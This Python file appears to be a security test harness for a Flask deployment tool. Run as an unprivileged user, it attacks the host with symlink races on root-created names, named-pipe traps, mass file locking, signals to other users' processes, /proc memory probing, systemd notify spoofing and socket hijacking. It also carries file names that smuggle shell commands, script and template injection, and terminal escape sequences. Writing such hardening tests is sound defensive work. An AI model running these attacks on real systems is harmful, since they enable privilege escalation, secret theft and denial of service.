# Copyright (c) 2026 The flaskops.production contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks the host as one of its unprivileged users: attacker.py '{"user": NAME, ...}'

The settings, as JSON:
    user       become this user first; without it, attack as the user that started this program
    own        directories of the user: links are laid there, and replace each name that somebody else creates
    turn       directories of the user in which directories change places with a link all the time
    swap       files of the user that change places with a link, or a named pipe, all the time
    lock       directories below which every file that can be opened is locked, again and again
    lock_once  directories of the system, the same, once
    socket     the path of the application's socket
    serves     whether the user is the application's, which may get to the name of its socket while that is not there
    secrets    files that must not be readable
    logs       whether what is printed reaches the journal, so that it is an attack, too
    report     where to write the report while the attack goes on; without it, it is printed at the end
    stop       the attack ends when this file appears
    seconds    and after this time in any case

The report says how often each attack was tried, and which of them succeeded though none may.
"""

from __future__ import annotations

import collections
import contextlib
import ctypes
import fcntl
import itertools
import json
import os
import pwd
import random
import select
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
IN_CREATE, IN_MOVED_TO, IN_ONLYDIR, IN_NONBLOCK = 0x100, 0x80, 0x01000000, 0o4000
NOTIFY = "/run/systemd/notify"
MESSAGES = ("MAINPID=1", "READY=1", "EXTEND_TIMEOUT_USEC=600000000", "STOPPING=1", "RELOADING=1", "WATCHDOG=trigger")
# 829348951 where it is taken for a template.
TEMPLATE = "{{ 7919 * 104729 }}"
# Such as helpers of modules have had, and such as do harm in a message, in a page, on a terminal or in a shell.
NAMES = [f".adopting-{number}" for number in range(20)] + [
    ".flaskops-write",
    "access.log",
    "logo.png",
    "gunicorn.error.log.1",
    "gunicorn.access.log.1",
    "<script>alert(1)</script>",
    "a;id>PWN",
    "$(id>PWN)",
    TEMPLATE,
    b"\xff\xfe".decode("utf-8", "surrogateescape"),
    "\x1b]0;owned\x07\x1b[2J",
    "new\nline",
]
PIPES = ("pipe.txt", "pipe.db", "pipe.log", ".env.pipe")
# The doctor shows lines of a log that tell of refused accesses.
LOG = f"PermissionError: \x1b]0;owned\x07\x1b[2J\x9b2J {TEMPLATE} <script>alert(1)</script>"
# What the name of a file that is moved away ends with.
ASIDE = ".aside"
# Of directories that change places with a link. In each is a file for each secret, with the secret's name.
TURNING = 8
# More than a host of the tests has open files, and less than the limit of a service.
MOST_LOCKS = 800


class Attacker:
    def __init__(self, settings: dict) -> None:
        self.own = settings.get("own", [])
        self.turned = [os.path.join(path, f"turn-{n}") for path in settings.get("turn", []) for n in range(TURNING)]
        self.swapped = settings.get("swap", [])
        self.locked_below = [*settings.get("lock", []), *settings.get("lock_once", [])]
        self.locked_again = settings.get("lock", [])
        self.logs = settings.get("logs", False)
        self.socket, self.serves = settings.get("socket", ""), settings.get("serves", False)
        self.secrets = settings["secrets"]
        self.report_path = settings.get("report", "")
        self.stop, self.end = settings["stop"], time.monotonic() + settings["seconds"]
        self.tried: collections.Counter[str] = collections.Counter()
        self.succeeded: set[str] = set()
        self.locks: dict[str, int] = {}
        self.watched: dict[int, str] = {}
        self.inotify = LIBC.inotify_init1(IN_NONBLOCK)
        self.targets = itertools.cycle([*self.secrets, "/etc/cron.d/owned", "/etc", "/root"])

    def over(self) -> bool:
        return time.monotonic() >= self.end or os.path.exists(self.stop)

    def run(self) -> None:
        self.ask_the_manager()
        slow = quick = 0.0
        while not self.over():
            if time.monotonic() >= slow:
                slow = time.monotonic() + 2
                for attack in (self.lay_links, self.lay_pipes, self.lock_all, self.read_secrets, self.log):
                    attack()
                self.write_report()
            if time.monotonic() >= quick:
                quick = time.monotonic() + 0.5
                for attack in (self.watch, self.send_signals, self.enter_processes, self.notify, self.listen):
                    attack()
            self.swap_own()
            self.turn_own()
            if select.select([self.inotify], [], [], 0.02)[0]:
                self.replace_new_names()
        self.write_report()

    # Names

    def watch(self) -> None:
        """Hear of each name that is created in a directory of the user, and below."""
        for top in self.own:
            for directory, _directories, _files in os.walk(top):
                mask = IN_CREATE | IN_MOVED_TO | IN_ONLYDIR
                number = LIBC.inotify_add_watch(self.inotify, os.fsencode(directory), mask)
                if number >= 0:
                    self.watched[number] = directory

    def replace_new_names(self) -> None:
        """Put a link where somebody else, such as root, has just created a name."""
        with contextlib.suppress(BlockingIOError):
            events = os.read(self.inotify, 65536)
            position = 0
            while position < len(events):
                number, _mask, _cookie, length = struct.unpack_from("iIII", events, position)
                name = os.fsdecode(events[position + 16 : position + 16 + length].rstrip(b"\0"))
                position += 16 + length
                if number in self.watched:
                    self.replace(os.path.join(self.watched[number], name))

    def replace(self, path: str) -> None:
        with contextlib.suppress(OSError):
            own = os.lstat(path).st_uid == os.getuid()
            # What other attackers report is left to them.
            if own or path.endswith(ASIDE) or os.path.basename(path).startswith("attack."):
                return
            self.tried["race"] += 1
            os.rename(path, path + ASIDE)
            os.symlink(next(self.targets), path)

    def lay_links(self) -> None:
        for directory in self.own:
            for name in NAMES:
                self.tried["link"] += 1
                path = os.path.join(directory, name)
                with contextlib.suppress(OSError):
                    if random.random() < 0.2:
                        os.unlink(path)
                    os.symlink(next(self.targets), path)
            for secret in self.secrets:
                self.tried["hard link"] += 1
                with contextlib.suppress(OSError):
                    os.link(secret, os.path.join(directory, f"hard-{os.path.basename(secret)}"))

    def lay_pipes(self) -> None:
        """Whoever opens one of them waits for ever."""
        for directory in self.own:
            for name in PIPES:
                self.tried["pipe"] += 1
                with contextlib.suppress(OSError):
                    os.mkfifo(os.path.join(directory, name))

    def swap_own(self) -> None:
        """Let a file of the user be a link or a pipe every other time."""
        for path in self.swapped:
            self.tried["swap"] += 1
            with contextlib.suppress(OSError):
                if os.path.lexists(f"{path}.kept"):
                    os.replace(f"{path}.kept", path)
                    continue
                os.rename(path, f"{path}.kept")
                if random.random() < 0.5:
                    os.symlink(self.secrets[0], path)
                else:
                    os.mkfifo(path)

    def turn_own(self) -> None:
        """Let a directory of the user be a link to one with files of the same names, every other time."""
        for path in self.turned:
            self.tried["turn"] += 1
            with contextlib.suppress(OSError):
                if os.path.islink(path):
                    os.unlink(path)
                    os.rename(f"{path}.kept", path)
                elif os.path.isdir(path):
                    os.rename(path, f"{path}.kept")
                    os.symlink(os.path.dirname(self.secrets[0]), path)
                else:
                    os.mkdir(path)
                    for secret in self.secrets:
                        with open(os.path.join(path, os.path.basename(secret)), "x", encoding="ascii") as file:
                            file.write("of the attacker")

    # Locks

    def lock_all(self) -> None:
        """flock(2) takes no more than permission to read."""
        tops, self.locked_below = self.locked_below, self.locked_again
        for top in tops if len(self.locks) < MOST_LOCKS else ():
            for directory, _directories, files in os.walk(top):
                for path in [directory, *(os.path.join(directory, name) for name in files)]:
                    self.lock(path)

    def lock(self, path: str) -> None:
        if path in self.locks or len(self.locks) >= MOST_LOCKS:
            return
        with contextlib.suppress(OSError):
            if stat.S_IFMT(os.lstat(path).st_mode) not in (stat.S_IFREG, stat.S_IFDIR):
                return
            self.tried["lock"] += 1
            fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC)
            try:
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError:
                os.close(fd)
                raise
            self.locks[path] = fd

    # Other processes

    def others(self) -> list[int]:
        """Numbers of processes that are not the user's, those that are hidden included."""
        with open("/proc/loadavg", encoding="ascii") as file:
            last = int(file.read().split()[-1])
        found = []
        for pid in range(1, last + 1):
            try:
                os.kill(pid, 0)
            except PermissionError:
                found.append(pid)
            except ProcessLookupError:
                continue
        return found

    def send_signals(self) -> None:
        for pid in self.others():
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                self.tried["signal"] += 1
                with contextlib.suppress(OSError):
                    os.kill(pid, number)
                    self.note(pid, f"signal {number}")

    def enter_processes(self) -> None:
        """Look for what lies behind a process: memory, environment, open files and directories."""
        for pid in self.others():
            self.tried["process"] += 1
            for name in ("mem", "environ"):
                with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                    if name == "mem" or file.read(1):
                        self.note(pid, f"open {name}")
            for name in ("root", "cwd", "fd"):
                with contextlib.suppress(OSError):
                    os.listdir(f"/proc/{pid}/{name}")
                    self.note(pid, f"list {name}")
            buffer = ctypes.create_string_buffer(8)
            vector = struct.pack("PL", ctypes.addressof(buffer), 8)
            if LIBC.process_vm_readv(pid, vector, 1, struct.pack("PL", 0x1000, 8), 1, 0) > 0:
                self.note(pid, "read memory")

    def note(self, pid: int, attack: str) -> None:
        """Note a success, unless the process has ended and a process of the user has got its number."""
        with contextlib.suppress(OSError), open(f"/proc/{pid}/comm", encoding="utf-8", errors="replace") as file:
            user = os.fstat(file.fileno()).st_uid
            if user != os.getuid():
                self.succeeded.add(f"{attack} of {file.read().strip()}, user {user}")

    # Sockets

    def notify(self) -> None:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as end:
            end.setblocking(False)
            for message in (*MESSAGES, f"MAINPID={os.getpid()}"):
                self.tried["notify"] += 1
                with contextlib.suppress(OSError):
                    end.sendto(message.encode(), NOTIFY)

    def listen(self) -> None:
        """Take the place of the application's socket, and connect to it."""
        if not self.socket:
            return
        self.tried["listen"] += 1
        aside = f"{self.socket}.{os.getpid()}"
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as end:
            end.bind(aside)
            end.listen()
            for put in (os.link, os.rename):
                with contextlib.suppress(OSError):
                    put(aside, self.socket)
                    if not self.serves:
                        self.succeeded.add(f"listen on {self.socket}")
        with contextlib.suppress(OSError):
            os.unlink(aside)
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as end:
            end.connect(self.socket)
            self.succeeded.add(f"connect to {self.socket}")

    # Files and services

    def read_secrets(self) -> None:
        for path in self.secrets:
            self.tried["read"] += 1
            with contextlib.suppress(OSError), open(path, "rb"):
                self.succeeded.add(f"read {path}")

    def ask_the_manager(self) -> None:
        for unit in ("nginx.service", "myapp.socket"):
            self.tried["manager"] += 1
            command = ["systemctl", "--no-ask-password", "stop", unit]
            with contextlib.suppress(OSError, subprocess.TimeoutExpired):
                if subprocess.run(command, check=False, capture_output=True, timeout=20).returncode == 0:
                    self.succeeded.add(" ".join(command))

    def log(self) -> None:
        if self.logs:
            self.tried["log"] += 1
            print(LOG, flush=True)

    def write_report(self) -> None:
        if self.report_path:
            with open(f"{self.report_path}.new", "w", encoding="ascii") as file:
                file.write(self.report())
            os.replace(f"{self.report_path}.new", self.report_path)

    def report(self) -> str:
        return json.dumps({"user": os.getuid(), "tried": self.tried, "succeeded": sorted(self.succeeded)})


def become(user: str) -> None:
    account = pwd.getpwnam(user)
    os.setgroups(os.getgrouplist(user, account.pw_gid))
    os.setgid(account.pw_gid)
    os.setuid(account.pw_uid)


def main() -> None:
    settings = json.loads(sys.argv[1])
    if settings.get("user"):
        become(settings["user"])
    # The host goes on working. The sandbox refuses it.
    with contextlib.suppress(PermissionError):
        os.nice(10)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    attacker = Attacker(settings)
    attacker.run()
    if not attacker.report_path:
        print(attacker.report())


if __name__ == "__main__":
    main()
